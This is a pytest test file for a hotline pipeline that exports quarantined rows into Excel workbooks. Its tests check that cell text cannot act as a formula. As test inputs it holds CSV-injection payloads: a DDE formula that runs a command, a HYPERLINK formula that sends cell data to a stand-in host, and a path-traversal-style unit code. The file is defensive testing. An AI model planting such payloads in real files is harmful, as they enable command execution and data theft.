"""What a spreadsheet gets to see: text that it cannot run, and that comes back as it was."""

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pipelines.errors import HotlineError
from pipelines.load import load_range
from pipelines.quarantine import export, list_days, list_units
from pipelines.quarantine.read_workbooks import read_workbooks
from pipelines.quarantine.workbook import REASONS
from pipelines.settings import Settings
from tests.conftest import CONTACT, DAY, contacts_csv
from tests.unit.quarantine.desk import cell, correct

Deliver = Callable[..., Path]
BAD = {"received_at": "someday"}

FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"请点")',
    "quote": "'=1+1",
    "zeros": "007",
    "digits": "110101001",
    "scientific": "1e5",
    "date": "3-4",
    "true": "TRUE",
    "error": "#REF!",
    "breaks": "路灯\n不亮\n\n",
    "spaces": "  路灯  ",
    "quotes": 'a "quoted", b',
    "rare": "𠮷野家的灯 🚦",
}


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_a_cell_is_text_and_nothing_else(settings: Settings, deliver: Deliver, text: str) -> None:
    deliver(contacts_csv(BAD | {"title": text}))
    load_range(settings, DAY, DAY, ["contacts"])
    (book,) = export(settings).workbooks
    found = cell(book.path, 2, "title")
    assert (found.value, found.data_type) == (text, "s")
    assert (found.number_format, bool(found.quotePrefix)) == ("@", True)
    assert not any(
        c.data_type == "f" for sheet in load_workbook(book.path) for row in sheet for c in row
    )
    # Saved again by a program, and not changed: there is nothing to take over.
    load_workbook(book.path).save(book.path)
    assert read_workbooks(settings, [book.path]) == ([], 1)


@pytest.mark.parametrize(
    "text",
    ["x" * 32_768, "灯" * 40_000, "a\rb", "\r=1+1", "bell\x07", "_x000D_", "_x0041_", "\uffff"],
    ids=["32768", "chinese", "cr", "cr formula", "control", "escape", "escape a", "nonchar"],
)
def test_what_no_cell_can_hold_stands_in_a_file_beside(
    settings: Settings, deliver: Deliver, text: str
) -> None:
    deliver(contacts_csv(BAD | {"title": text}))
    load_range(settings, DAY, DAY, ["contacts"])
    (book,) = export(settings).workbooks
    assert (book.lines, book.side_files) == (1, 1)
    side = book.path.parent / "110101_lines" / f"contacts_{DAY}_line_2.txt"
    fields = next(csv.reader([side.read_bytes().decode()]))
    assert fields == list((CONTACT | BAD | {"title": text}).values())
    assert side.name in cell(book.path, 2, "line_text").value
    assert cell(book.path, 2, "title").value is None
    assert read_workbooks(settings, [book.path]) == ([], 1)


def test_the_longest_text_of_a_cell_stays_in_it(settings: Settings, deliver: Deliver) -> None:
    deliver(contacts_csv(BAD | {"title": "灯" * 32_767}))
    load_range(settings, DAY, DAY, ["contacts"])
    (book,) = export(settings).workbooks
    assert book.side_files == 0
    assert cell(book.path, 2, "title").value == "灯" * 32_767


def test_one_workbook_per_unit(settings: Settings, deliver: Deliver) -> None:
    header = "dispatch_id,contact_id,unit_code,dispatched_at,status,updated_at\n"
    path = settings.landing / "dispatches" / "dispatches_20210301.csv"
    path.parent.mkdir(parents=True)
    path.write_text(
        header + "D1,C1,BJ-D01,someday,open,2021-03-01 09:00\nD2,C1,BJ-D01\n"
        "D3,C1,=1/../..,2021-03-01 09:00,lost,2021-03-01 09:00\n",
        encoding="utf-8",
    )
    deliver(contacts_csv(BAD, BAD | {"contact_id": "C2", "district_code": ""}))
    load_range(settings, DAY, DAY, ["contacts", "dispatches"])
    result = export(settings)
    assert result.folder == settings.quarantine / "exports" / "2021-03-01"
    assert {book.path.name: book.lines for book in result.workbooks} == {
        "1.xlsx": 1,
        "110101.xlsx": 1,
        "BJ-D01.xlsx": 1,
        "unassigned.xlsx": 2,
    }
    assert {(u.unit, u.feed): u.lines for u in list_units(settings)} == {
        ("=1/../..", "dispatches"): 1,
        ("110101", "contacts"): 1,
        ("BJ-D01", "dispatches"): 1,
        ("unassigned", "contacts"): 1,
        ("unassigned", "dispatches"): 1,
    }
    assert [(d.feed, d.lines, d.reasons) for d in list_days(settings)] == [
        ("contacts", 2, 1),
        ("dispatches", 3, 3),
    ]
    sheets = load_workbook(result.folder / "unassigned.xlsx").sheetnames
    assert sheets == ["说明 README", "contacts", "dispatches", "_about"]


def test_a_row_says_where_and_why_in_both_languages(settings: Settings, deliver: Deliver) -> None:
    deliver(contacts_csv(BAD | {"order_type": "riddle", "title": "电话 19900000000"}))
    load_range(settings, DAY, DAY, ["contacts"])
    (book,) = export(settings).workbooks
    assert cell(book.path, 2, "file").value == "contacts/contacts_20210301.csv"
    both = f"{REASONS['not_a_timestamp']}\n{REASONS['unknown_value']}"
    assert cell(book.path, 2, "reason").value == both
    assert cell(book.path, 2, "column").value == "received_at\norder_type"
    assert cell(book.path, 2, "value").value == "someday\nriddle"
    assert cell(book.path, 2, "community").value is None
    sheet = load_workbook(book.path)["contacts"]
    assert sheet.column_dimensions["A"].hidden
    assert json.loads(sheet["A2"].value)[:4] == [
        *("contacts", "2021-03-01", "contacts/contacts_20210301.csv", "2")
    ]
    readme = load_workbook(book.path)["说明 README"]
    assert "个人信息" in readme["A1"].value
    assert "personal data" in readme["A1"].value


def test_titles_have_the_names_of_the_file(settings: Settings, deliver: Deliver) -> None:
    header = "工单编号,来电时间,工单类型,来电号码,更新时间"
    deliver(f"{header}\nC1,某日,诉求,19900000000,2021-03-01 08:00\n")
    load_range(settings, DAY, DAY, ["contacts"])
    (book,) = export(settings).workbooks
    titles = [c.value for c in load_workbook(book.path)["contacts"][1]]
    assert titles[6:] == [
        "工单编号 / contact_id",
        "来电时间 / received_at",
        "工单类型 / order_type",
        "来电号码 / caller_id",
        "更新时间 / updated_at",
        "整行 line_text",
    ]


def test_an_export_never_overwrites_one(settings: Settings, deliver: Deliver) -> None:
    deliver(contacts_csv(BAD))
    load_range(settings, DAY, DAY, ["contacts"])
    first, second = export(settings), export(settings)
    assert second.folder.name == "2021-03-01_2"
    correct(first.workbooks[0].path, 2, "title", "corrected")
    with pytest.raises(HotlineError, match="is there already and may hold corrections"):
        export(settings, out=first.folder)
    assert cell(first.workbooks[0].path, 2, "title").value == "corrected"


def test_an_empty_quarantine_writes_nothing(settings: Settings, deliver: Deliver) -> None:
    deliver(contacts_csv({}))
    load_range(settings, DAY, DAY, ["contacts"])
    assert export(settings).workbooks == ()
    assert not (settings.quarantine / "exports").exists()


def test_an_unknown_feed_is_told(settings: Settings) -> None:
    with pytest.raises(HotlineError, match="has no feed 'letters'"):
        export(settings, "letters")


def test_a_damaged_quarantine_file_is_told(settings: Settings, deliver: Deliver) -> None:
    deliver(contacts_csv(BAD))
    load_range(settings, DAY, DAY, ["contacts"])
    (part,) = settings.quarantine.glob("contacts/*/part.parquet")
    part.write_bytes(b"PAR1 and then nothing")
    for read in (export, list_units):
        with pytest.raises(HotlineError, match=r"part\.parquet (is damaged|cannot be read)"):
            read(settings)
